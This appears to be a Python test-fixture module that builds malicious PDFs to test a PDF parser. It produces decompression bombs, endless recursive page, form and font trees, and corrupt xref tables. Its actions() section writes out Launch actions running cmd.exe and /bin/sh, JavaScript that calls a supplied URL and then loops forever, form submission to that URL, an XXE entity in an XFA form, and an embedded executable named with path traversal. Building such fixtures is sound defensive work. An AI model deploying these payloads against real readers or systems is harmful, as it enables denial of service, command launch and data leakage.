"""PDFs made to hurt whoever opens them (ISO 32000-1)."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from functools import partial

from tests.factories.signed import pdf_of, signed_pdf

Maker = Callable[[], bytes]
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 280]/Contents 4 0 R%s>>"
FONT = b"/Resources<</Font<</F 5 0 R>>>>"
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /F 12 Tf 20 200 Td (Testo) Tj ET"
MEGA = 1_000_000


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def packed(data: bytes, entries: bytes = b"") -> bytes:
    """Return a deflated stream object."""
    return stream(zlib.compress(data, 9), entries + b"/Filter/FlateDecode")


def one_page(
    *more: bytes,
    catalogue: bytes = b"",
    page: bytes = FONT,
    content: bytes = TEXT,
    font: bytes = HELVETICA,
) -> bytes:
    """Return a PDF of one page; ``more`` are its objects from the sixth on."""
    return pdf_of([CATALOGUE % catalogue, PAGES, PAGE % page, stream(content), font, *more])


def picture(entries: bytes, data: bytes = b"") -> bytes:
    """Return a PDF whose page is one picture with these entries."""
    return one_page(
        stream(data, b"/Type/XObject/Subtype/Image" + entries),
        page=b"/Resources<</XObject<</I 6 0 R>>>>",
        content=b"q 300 0 0 280 0 0 cm /I Do Q",
    )


def grey(width: int, height: int, bits: int = 8) -> bytes:
    """Return a picture of so many pixels, all alike."""
    data = zlib.compress(bytes(width * bits // 8) * height, 9)
    form = b"/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent %d/Filter/FlateDecode"
    return picture(form % (width, height, bits), data)


def pictures(url: str) -> dict[str, Maker]:
    """Return pictures of a hundred megapixels and more, in every filter."""
    size = b"/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8"
    large = size % (10_000, 10_000)
    colours = size.replace(b"DeviceGray", b"DeviceRGB") % (8000, 8000)
    fax = b"/Width 20000/Height 20000/ColorSpace/DeviceGray/BitsPerComponent 1"
    parms = b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 20000/Rows 20000>>"
    jpx = bytes.fromhex("ff4fff51002f0000") + (100_000).to_bytes(4, "big") * 2 + bytes(24)
    jpeg = bytes.fromhex("ffd8ffc0000b08ffffffff01011100ffda0008010100003f00") + bytes(5000)
    segment = bytes.fromhex("00000000300001000000130000ffff0000ffff") + bytes(50)
    flates = b"/Filter[%s]" % (b"/FlateDecode" * 40)
    twice = zlib.compress(zlib.compress(bytes(400 * MEGA), 9), 9)
    return {
        "cento-megapixel.pdf": partial(grey, 10_000, 10_000),
        "larghissima.pdf": partial(grey, 2_000_000, 60),
        "altissima.pdf": partial(grey, 60, 2_000_000),
        "bianco-nero.pdf": partial(grey, 30_000, 30_000, 1),
        "a-colori.pdf": lambda: picture(
            colours + b"/Filter/FlateDecode", zlib.compress(bytes(192 * MEGA), 9)
        ),
        "fax.pdf": lambda: picture(fax + parms, bytes(5000)),
        "jbig2.pdf": lambda: picture(fax + b"/Filter/JBIG2Decode", segment),
        "jpx.pdf": lambda: picture(large + b"/Filter/JPXDecode", jpx),
        "dct.pdf": lambda: picture(large + b"/Filter/DCTDecode", jpeg),
        "lzw.pdf": lambda: picture(large + b"/Filter/LZWDecode", b"\x80\x0b\x60\x50" * 90_000),
        "corse.pdf": lambda: picture(large + b"/Filter/RunLengthDecode", b"\x81\x00" * 800_000),
        "filtri.pdf": lambda: picture(large + flates, zlib.compress(bytes(MEGA))),
        "doppio-flate.pdf": lambda: picture(large + b"/Filter[/FlateDecode/FlateDecode]", twice),
        "misure-negative.pdf": lambda: picture(size % (-5, -5), bytes(50)),
        "misure-enormi.pdf": lambda: picture(size % (2**31 - 1, 2**31 - 1), bytes(50)),
        "maschera-di-se.pdf": lambda: picture(size % (9, 9) + b"/SMask 6 0 R", bytes(81)),
        "colori-di-se.pdf": lambda: one_page(
            stream(bytes(81), b"/Subtype/Image/Width 9/Height 9/ColorSpace 7 0 R"),
            b"[/Indexed 7 0 R 255 8 0 R]",
            stream(bytes(9)),
            page=b"/Resources<</XObject<</I 6 0 R>>>>",
            content=b"/I Do",
        ),
        "file-esterno.pdf": lambda: picture(
            size % (9, 9) + b"/F<</FS/URL/F(%s)>>" % url.encode(), b""
        ),
    }


def actions(url: str, target: str) -> dict[str, Maker]:
    """Return pages that want to run, to call and to carry something."""
    place, goal = url.encode(), target.encode()
    script = b"app.launchURL\\('%s'\\);while\\(true\\){}" % place
    wanted = {
        "javascript": b"/S/JavaScript/JS(%s)" % script,
        "avvia": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        "avvia-unix": b"/S/Launch/Unix<</F(touch %s)>>" % goal,
        "vai-altrove": b"/S/GoToR/F(%s)/D[0/Fit]" % goal,
        "vai-dentro": b"/S/GoToE/T<</R/C/N(x)/T<</R/C/N(x)>>>>",
        "invia": b"/S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 4" % place,
        "importa": b"/S/ImportData/F(%s)" % goal,
        "indirizzo": b"/S/URI/URI(%s)" % place,
        "video": b"/S/Rendition/OP 0/R<</C<</D(%s)/CT(video/mp4)>>>>" % place,
        "catena": b"/S/URI/URI(%s)/Next 6 0 R" % place,
    }
    made: dict[str, Maker] = {
        f"azione-{name}.pdf": partial(one_page, b"<<%s>>" % action, catalogue=b"/OpenAction 6 0 R")
        for name, action in wanted.items()
    }
    program = b"MZ" + bytes(60) + b"PE\0\0" + bytes(2000)
    form = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><xdp:xdp xmlns:xdp='
        b'"http://ns.adobe.com/xdp/">&e;</xdp:xdp>' % place
    )
    attached = b"/Names<</EmbeddedFiles<</Names[%s]>>>>"
    return made | {
        "script-nei-nomi.pdf": lambda: one_page(
            b"<</S/JavaScript/JS(%s)>>" % script,
            catalogue=b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>",
        ),
        "script-nel-campo.pdf": lambda: one_page(
            b"<</FT/Tx/T(a)/AA<</C<</S/JavaScript/JS(%s)>>/K 6 0 R>>>>" % script,
            catalogue=b"/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>",
        ),
        "allegato-programma.pdf": lambda: one_page(
            b"<</Type/Filespec/F(../../x.exe)/EF<</F 7 0 R>>>>",
            stream(program, b"/Type/EmbeddedFile"),
            catalogue=attached % b"(x)6 0 R",
        ),
        "mille-allegati.pdf": lambda: one_page(
            b"<</Type/Filespec/F(x)/EF<</F 6 0 R>>>>",
            catalogue=attached % (b"(x)6 0 R" * 50_000),
        ),
        "allegato-bomba.pdf": lambda: one_page(
            b"<</Type/Filespec/F(x)/EF<</F 7 0 R>>>>",
            packed(bytes(300 * MEGA), b"/Type/EmbeddedFile"),
            catalogue=attached % b"(x)6 0 R",
        ),
        "modulo-xfa.pdf": lambda: one_page(
            stream(form), catalogue=b"/AcroForm<</Fields[]/XFA[(a)6 0 R]>>"
        ),
    }


def circles() -> dict[str, Maker]:
    """Return trees without end: pages, forms, fonts, outlines, tables of places."""
    form = b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R/B %d 0 R>>>>"
    forms = b"/Resources<</XObject<</A 6 0 R/B 6 0 R>>>>"
    ladder = [stream(b"/A Do /B Do " * 5, form % (n, n)) for n in range(7, 19)]
    type3 = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 84"
        b"/LastChar 84/Widths[9]/Encoding<</Differences[84/T]>>/CharProcs<</T 6 0 R>>"
        b"/Resources<</Font<</F 5 0 R>>>>>>"
    )
    use = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /X usecmap "
    spread = use + b"1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange endcmap"
    mapped = HELVETICA[:-2] + b"/ToUnicode 6 0 R>>"
    chain = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(3, 5000)]
    return {
        "moduli-scambiati.pdf": lambda: one_page(
            stream(b"/A Do", form % (7, 7)),
            stream(b"/A Do", form % (6, 6)),
            page=forms,
            content=b"/A Do",
        ),
        "moduli-esponenziali.pdf": lambda: one_page(
            *ladder, stream(TEXT), page=forms, content=b"/A Do"
        ),
        "carattere-di-se.pdf": lambda: one_page(stream(b"9 0 d0 " + TEXT), font=type3),
        "mappa-di-se.pdf": lambda: one_page(
            stream(spread, b"/CMapName/X/UseCMap 6 0 R"), font=mapped
        ),
        "trama-di-se.pdf": lambda: one_page(
            stream(
                b"/Pattern cs /P scn 0 0 9 9 re f",
                b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .001/YStep .001"
                b"/Resources<</Pattern<</P 6 0 R>>>>",
            ),
            page=b"/Resources<</Pattern<</P 6 0 R>>>>",
            content=b"/Pattern cs /P scn 0 0 300 280 re f",
        ),
        "indice-in-cerchio.pdf": lambda: one_page(
            b"<</Title(a)/First 7 0 R/Next 7 0 R>>",
            b"<</Title(b)/First 6 0 R/Next 6 0 R/Prev 7 0 R>>",
            catalogue=b"/Outlines 6 0 R",
        ),
        "nomi-in-cerchio.pdf": lambda: one_page(
            b"<</Kids[6 0 R 6 0 R]/Limits[(a)(z)]>>", catalogue=b"/Names<</Dests 6 0 R>>"
        ),
        "etichette-in-cerchio.pdf": lambda: one_page(
            b"<</Kids[6 0 R 6 0 R]/Limits[0 9]>>", catalogue=b"/PageLabels 6 0 R"
        ),
        "pagine-di-se.pdf": lambda: pdf_of([CATALOGUE % b"", b"<</Kids[2 0 R 2 0 R]/Count 9>>"]),
        "pagine-profonde.pdf": lambda: pdf_of([CATALOGUE % b"", PAGES, *chain, b"<</Type/Page>>"]),
        "pagine-negative.pdf": lambda: pdf_of([CATALOGUE % b"", b"<</Kids[1 0 R]/Count -7>>"]),
        "pagine-numeri.pdf": lambda: pdf_of([CATALOGUE % b"", b"<</Kids[1 2 3]/Count 3>>"]),
        "pagina-radice.pdf": lambda: pdf_of([b"<</Type/Page/Pages 1 0 R/Kids[1 0 R]/Count 1>>"]),
        "tremila-e-uno.pdf": lambda: many_pages(3001),
        "la-stessa-pagina.pdf": lambda: pdf_of(
            [
                CATALOGUE % b"",
                b"<</Type/Pages/Kids[%s]/Count 2900>>" % (b"3 0 R " * 2900),
                PAGE % FONT,
                packed(b"BT /F 9 Tf (parola) Tj ET " * 2000),
                HELVETICA,
            ]
        ),
        "annotazioni.pdf": lambda: one_page(
            b"<</Subtype/Widget/FT/Tx/Kids[6 0 R]/Parent 6 0 R/AP<</N 6 0 R>>>>",
            page=FONT + b"/Annots[%s]" % (b"6 0 R " * 50_000),
        ),
        "funzioni.pdf": lambda: one_page(
            b"<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[.5]/Encode[0 1 0 1]>>",
            page=b"/Resources<</Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 9 9]"
            b"/Function 6 0 R>>>>>>",
            content=b"/S sh",
        ),
    }


def many_pages(count: int) -> bytes:
    """Return a PDF of so many blank pages."""
    kids = b"".join(b"%d 0 R " % number for number in range(3, count + 3))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf_of(
        [CATALOGUE % b"", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), *[page] * count]
    )


def ruins() -> dict[str, Maker]:
    """Return files whose tables lie, are cut, or nest without end."""
    sound = one_page()
    start = sound.rindex(b"startxref")
    noise = random.Random(1).randbytes(60_000)
    trailer = b"trailer<</Size 6/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    head = sound[:start]
    table = head.rindex(b"xref\n0")
    body = sound[:table]
    locked = (
        b"/Encrypt<</Filter/Standard/V %d/R %d/Length 128/P -4/O(%s)/U(%s)/OE(%s)/UE(%s)"
        b"/Perms(1234567890123456)>>/ID[(a)(a)]"
    )

    def encrypted(version: int, revision: int) -> bytes:
        key = b"k" * (48 if revision > 4 else 32)
        entries = locked % (version, revision, key, key, key[:32], key[:32])
        return sound.replace(b"/Root 1 0 R", b"/Root 1 0 R" + entries)

    return {
        "cifrato-rc4.pdf": partial(encrypted, 2, 3),
        "cifrato-aes.pdf": partial(encrypted, 4, 4),
        "cifrato-aes256.pdf": partial(encrypted, 5, 6),
        "cifrato-ignoto.pdf": partial(encrypted, 99, 99),
        "tabella-altrove.pdf": lambda: head + b"startxref\n999999999999\n%%EOF",
        "tabella-negativa.pdf": lambda: head + b"startxref\n-1\n%%EOF",
        "tabella-enorme.pdf": lambda: body + b"xref\n0 2147483647\n" + trailer % (b"", table),
        "tabella-in-cerchio.pdf": lambda: (
            head[: head.rindex(b"trailer")]
            + trailer % (b"/Prev %d/XRefStm %d" % (table, table), table)
        ),
        "senza-tabella.pdf": lambda: body,
        "radice-intera.pdf": lambda: sound.replace(b"/Root 1 0 R", b"/Root 4"),
        "oggetti-in-se.pdf": lambda: pdf_of(
            [
                CATALOGUE % b"",
                b"<</Type/Pages/Kids[7 0 R]/Count 1>>",
                stream(b"7 0 <</Type/Page>>", b"/Type/ObjStm/N 9999999/First 4/Extends 3 0 R"),
            ]
        ),
        "tabella-oggetto.pdf": lambda: (
            body
            + b"9 0 obj"
            + stream(bytes(90), b"/Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Prev %d" % table)
            + b"\nendobj\nstartxref\n%d\n%%%%EOF" % table
        ),
        "linearizzato.pdf": lambda: (
            b"%PDF-1.7\n1 0 obj<</Linearized 1/L 9/H[9 9]/O 9/E 9/N 9/T 9>>" + sound
        ),
        "metà.pdf": lambda: sound[: len(sound) // 2],
        "nove-decimi.pdf": lambda: sound[: len(sound) * 9 // 10],
        "solo-inizio.pdf": lambda: b"%PDF-2.0",
        "rumore.pdf": lambda: b"%PDF-1.4\n" + noise,
        "preceduto.pdf": lambda: noise[:900].replace(b"PK", b"xx") + sound,
        "parentesi.pdf": lambda: one_page(content=b"[" * MEGA + b"(" * MEGA),
        "dizionari.pdf": lambda: pdf_of([b"<</A" * 200_000]),
        "liste.pdf": lambda: pdf_of([CATALOGUE % b"/A 2 0 R", b"[" * 500_000]),
        "salvataggi.pdf": lambda: one_page(content=b"q " * MEGA + TEXT),
        "troppe-parole.pdf": lambda: pdf_of(
            [
                CATALOGUE % b"",
                PAGES,
                PAGE % FONT,
                packed(b"BT /F 9 Tf (parola) Tj ET " * MEGA),
                HELVETICA,
            ]
        ),
        "pagina-infinita.pdf": lambda: one_page(page=FONT + b"/MediaBox[0 0 1e38 1e38]"),
        "pagina-nulla.pdf": lambda: one_page(page=FONT + b"/CropBox[0 0 0 0]/UserUnit 1e9"),
        "pagina-storta.pdf": lambda: one_page(page=FONT + b"/Rotate 45/MediaBox[(a)/b null <<>>]"),
        "firma-annidata.pdf": lambda: signed_pdf().replace(
            b"/Contents<", b"/Contents<" + b"3080" * 50_000, 1
        ),
        "lunghezza-falsa.pdf": lambda: sound.replace(b"/Length %d" % len(TEXT), b"/Length 9 0 R"),
    }


def pdfs(url: str, target: str) -> dict[str, Maker]:
    """Return the makers of every PDF by name: they call ``url``, they would write ``target``."""
    return pictures(url) | actions(url, target) | circles() | ruins()
